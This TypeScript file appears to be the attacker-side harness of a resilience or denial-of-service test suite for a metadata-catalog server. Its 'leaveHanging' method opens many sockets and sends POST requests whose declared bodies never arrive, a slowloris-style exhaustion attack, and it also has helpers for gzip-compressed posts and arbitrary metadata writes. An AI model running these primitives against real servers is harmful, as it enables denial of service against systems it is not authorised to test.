import { Agent, request } from 'node:http'
import { connect } from 'node:net'

/** How long an attacker waits for an answer, milliseconds. */
const PATIENCE_MS = 120_000
const SOCKETS_MAX = 400

/** The server under attack, as the attacker sees it: answers are read and thrown away. */
export class Target {
  readonly #url: URL
  readonly #agent = new Agent({ keepAlive: true, maxSockets: SOCKETS_MAX })
  readonly #hanging = new Set<() => void>()

  constructor(url: string) {
    this.#url = new URL(url)
  }

  /** @returns the status of the answer; 0 when there was none */
  post(path: string, body: unknown): Promise<number> {
    return this.#send(
      'POST',
      path,
      Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)),
    )
  }

  /** @returns as {@link post} */
  get(path: string): Promise<number> {
    return this.#send('GET', path)
  }

  /** @returns as {@link post} */
  postCompressed(path: string, bytes: Buffer): Promise<number> {
    return this.#send('POST', path, bytes, { 'Content-Encoding': 'gzip' })
  }

  /** @returns as {@link post} */
  graphql(query: string, variables: object = {}, operationName?: string): Promise<number> {
    return this.post('/api/graphql', { query, variables, operationName })
  }

  /** @throws Error when it is refused */
  async write(entityUrn: string, aspectName: string, value: object): Promise<void> {
    const status = await this.post('/aspects?action=ingestProposal', {
      proposal: { entityUrn, changeType: 'UPSERT', aspectName, aspect: { value } },
    })
    if (status !== 200) throw new Error(`${aspectName} of ${entityUrn} was answered ${status}`)
  }

  /**
   * Begins requests whose bodies never end, and leaves them so until {@link release}.
   *
   * @returns 200 when the server took all connections
   */
  async leaveHanging(count: number): Promise<number> {
    const began = Array.from({ length: count }, () => this.#hang())
    return (await Promise.all(began)).every(Boolean) ? 200 : 0
  }

  /** Some requests have been left so. */
  get isHanging(): boolean {
    return this.#hanging.size > 0
  }

  release(): void {
    for (const end of this.#hanging) end()
    this.#hanging.clear()
  }

  close(): void {
    this.release()
    this.#agent.destroy()
  }

  #send(
    method: 'GET' | 'POST',
    path: string,
    body?: Buffer,
    headers: Record<string, string> = {},
  ): Promise<number> {
    const type = { 'Content-Type': 'application/json', 'Content-Length': String(body?.length ?? 0) }
    return new Promise((resolve) => {
      const sent = request(new URL(path, this.#url), {
        method,
        agent: this.#agent,
        timeout: PATIENCE_MS,
        headers: { ...(body && type), ...headers },
      })
      sent.on('timeout', () => sent.destroy())
      sent.on('error', () => resolve(0))
      sent.on('response', (response) => {
        response.resume()
        response.on('close', () => resolve(response.complete ? (response.statusCode ?? 0) : 0))
      })
      sent.end(body)
    })
  }

  #hang(): Promise<boolean> {
    const { hostname: host, port } = this.#url
    return new Promise((resolve) => {
      const socket = connect({ host, port: Number(port) })
      socket.on('error', () => resolve(false))
      socket.on('connect', () => {
        const head = `POST /entities?action=search HTTP/1.1\r\nHost: ${host}\r\n`
        socket.write(`${head}Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`)
        resolve(true)
      })
      this.#hanging.add(() => socket.destroy())
    })
  }
}
